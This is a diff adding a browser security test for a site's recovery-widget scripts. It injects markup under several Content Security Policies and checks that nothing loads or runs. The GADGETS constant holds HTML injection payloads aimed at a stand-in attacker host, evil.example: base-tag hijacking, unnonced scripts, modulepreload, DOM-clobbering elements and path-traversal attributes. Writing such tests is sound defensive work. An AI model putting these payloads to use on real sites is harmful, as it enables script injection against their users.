@@ -1,0 +1,74 @@
+/**
+ * Markup that an attacker has put into a page whose policy refuses the attacker’s scripts. Our files must not do what the policy
+ * forbids: load code from a place that such markup chooses.
+ */
+import assert from 'node:assert/strict';
+import {CDN, HOST, pageOf, snippet, test, upgraded, visibleText} from '../support/page.mjs';
+
+const EVIL = 'https://evil.example';
+
+/** Scripts without a nonce, which do not run, and elements that shadow properties of the document. */
+const GADGETS = `
+  <base href="${EVIL}/">
+  <script data-recovery-base="${EVIL}/" src="${EVIL}/recovery-widgets.classic.js"></script>
+  <script type="module" data-recovery-base="${EVIL}/" src="${EVIL}/recovery-widgets.js"></script>
+  <svg><script data-recovery-base="${EVIL}/" href="${EVIL}/recovery-widgets.js"></script></svg>
+  <link rel="modulepreload" href="${EVIL}/current/core.js">
+  <img name="currentScript" data-src="${EVIL}/"><img name="querySelector"><img name="contains">
+  <a id="recoveryWidgets" href="${EVIL}/"></a><a id="recoveryWidgets" name="claimed" href="${EVIL}/"></a>
+  <form data-recovery-widget="faq"><input name="getAttribute"><input name="querySelectorAll"><input name="closest"></form>
+  <div data-recovery-widget="../../../${EVIL}/faq" data-lang="../../${EVIL}/" data-region="../../${EVIL}"
+    data-recovery-base="${EVIL}/"></div>`;
+
+const script = (/** @type {string} */ file, attributes = '') =>
+  `<script nonce="n" src="${CDN}/${file}" ${attributes}></script>`;
+const MODULE = script('recovery-widgets.js', 'type="module"');
+const CLASSIC = script('recovery-widgets.classic.js');
+
+const NONCE = "script-src 'nonce-n'";
+const STRICT = `${NONCE} 'strict-dynamic'`;
+const HOSTS = `${NONCE} ${CDN}/`;
+const TRUSTED = `${STRICT}; require-trusted-types-for 'script'`;
+
+/** Each script with each policy under which it can load its files. */
+const PAGES = [
+  ...[HOSTS, STRICT, TRUSTED].flatMap((policy) => [
+    ['recovery-widgets.js', policy, MODULE],
+    ['recovery-widgets.classic.js', policy, CLASSIC],
+  ]),
+  ['all.js', NONCE, script('all.js')],
+  ['all.js', TRUSTED, script('all.js')],
+  [
+    'recovery-widgets.js beside enhance.js and frame-parent.js',
+    TRUSTED,
+    script('enhance.js', 'type="module"') + script('frame-parent.js', 'defer') + MODULE,
+  ],
+];
+
+test.describe('injected markup makes no script run', () => {
+  for (const [files, policy, scripts] of PAGES)
+    test(`with ${files} under ${policy}`, async ({open}) => {
+      const {page, requests} = await open(
+        pageOf(GADGETS + snippet('helpline-banner', 'region="US" lang="es"'), {script: scripts}),
+        {
+          headers: {'content-security-policy': `${policy}; base-uri 'none'; object-src 'none'`},
+          // Whatever is asked for there would run.
+          mounts: {[EVIL]: () => 'globalThis.hacked = true;'},
+        },
+      );
+      await upgraded(page);
+      // The same, added later. Trusted Types refuse that.
+      await page
+        .evaluate((html) => (document.body.appendChild(document.createElement('div')).innerHTML = html), GADGETS)
+        .catch((error) => assert.match(error.message, /TrustedHTML/));
+      await page.waitForLoadState('networkidle');
+      // Chromium itself preloads the module under 'strict-dynamic', and runs nothing.
+      const ours = [`${HOST}/`, `${EVIL}/current/core.js`];
+      assert.deepEqual(
+        requests.filter((url) => !url.startsWith(CDN) && !ours.includes(url)),
+        [],
+      );
+      assert.equal(await page.evaluate(() => 'hacked' in globalThis), false);
+      assert.match(await visibleText(page), /Hable con alguien/);
+    });
+});
